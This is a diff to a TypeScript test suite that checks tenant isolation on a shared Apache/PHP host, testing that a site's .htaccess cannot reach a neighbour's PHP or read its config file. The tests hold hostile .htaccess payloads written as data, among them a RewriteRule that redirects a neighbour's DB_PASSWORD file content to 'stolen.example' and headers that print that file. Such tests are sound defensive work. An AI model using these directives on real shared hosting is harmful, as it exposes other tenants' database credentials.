@@ -64,11 +64,18 @@ function waysToTheNeighbour(): Record<string, string> {
 }
 
 describe("a website's .htaccess", () => {
-  test("has no way to another website's PHP", async () => {
+  test("has no way to another website's PHP, while one to its own PHP is a way", async () => {
+    const own = (await mustInServer(BOX, "id", "-u", owner.website.id)).trim();
+    const socket = `unix:/run/php/boxyard-${owner.website.id}.sock|fcgi://${owner.website.id}`;
+    await owner.repository.write({
+      "docroot/own/.htaccess": `<FilesMatch "\\.txt$">\n  SetHandler "proxy:${socket}"\n</FilesMatch>\n`,
+      "docroot/own/x.txt": WHO,
+    });
     const ways = Object.entries(waysToTheNeighbour());
     for (const [index, [, content]] of ways.entries())
       await owner.repository.write({ [`docroot/way${index}/.htaccess`]: content, [`docroot/way${index}/x.txt`]: "text" });
     await push(owner);
+    expect(await ask("/own/x.txt"), "a handler in .htaccess reaches its own PHP").toContain(`runs as ${own} of ${owner.website.id}`);
     for (const [index, [what]] of ways.entries()) {
       const answer = await ask(`/way${index}/x.txt`);
       expect(answer, what).not.toContain(`runs as ${neighboursUid}`);
@@ -97,12 +104,15 @@ describe("a website's .htaccess", () => {
   test("reads no file in an expression", async () => {
     const file = `/srv/sites/${neighbour.website.id}/config/environment`;
     const ways = [
-      `Header set X-Stolen "expr=%{file:${file}}"\n`,
+      `Header always set X-Stolen "expr=%{file:${file}}"\n`,
       `RewriteEngine On\nRewriteCond expr "file('${file}') =~ m#(.+)#"\nRewriteRule ^ https://stolen.example/%1 [R]\n`,
       `ErrorDocument 404 "%{file:${file}}"\n`,
     ];
     for (const [index, content] of ways.entries()) await owner.repository.write({ [`docroot/read${index}/.htaccess`]: content });
+    await owner.repository.write({ "docroot/said/.htaccess": 'Header always set X-Said "expr=it said %{REQUEST_URI}"\n' });
     await push(owner);
+    expect(await mustInServer(BOX, "cat", file), "there is something to read").toContain("DB_PASSWORD");
+    expect(await ask("/said/x.txt"), "an expression without it works").toContain("it said /said/x.txt");
     for (const index of ways.keys()) expect(await ask(`/read${index}/x.txt`)).not.toContain("DB_PASSWORD");
   });
 
@@ -139,8 +149,9 @@ describe("a website's .htaccess", () => {
     });
     await push(owner);
     const files = `/srv/sites/${owner.website.id}/current/docroot/files`;
-    await inServer(BOX, ["tee", `${files}/.htaccess`], DRUPAL_FILES);
     await inServer(BOX, ["tee", `${files}/uploaded.php`], "<?php echo 'it ', 'runs';");
+    expect(await ask("/files/uploaded.php"), "before Drupal's file is there").toContain("it runs");
+    await inServer(BOX, ["tee", `${files}/.htaccess`], DRUPAL_FILES);
     expect(await ask("/drupal/node/1?page=2")).toContain("front controller /drupal/node/1?page=2");
     expect(await ask("/drupal/settings.inc")).toMatch(/^HTTP\/1\.1 403/);
     expect(await ask("/drupal/vendor/evil.php")).toMatch(/^HTTP\/1\.1 403/);
